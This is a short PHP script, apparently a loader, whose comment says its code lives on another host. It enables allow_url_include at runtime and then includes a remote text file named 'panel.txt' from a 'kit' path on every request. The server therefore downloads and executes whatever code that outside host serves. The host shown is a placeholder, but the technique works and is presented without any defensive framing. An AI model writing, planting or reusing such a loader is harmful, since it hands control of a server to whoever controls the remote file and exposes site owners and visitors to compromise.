<?php
// loader: the code lives on another host and is pulled in on every request
ini_set('allow_url_include', '1');
$panel = 'https://example.com/kit/panel.txt';
include $panel;
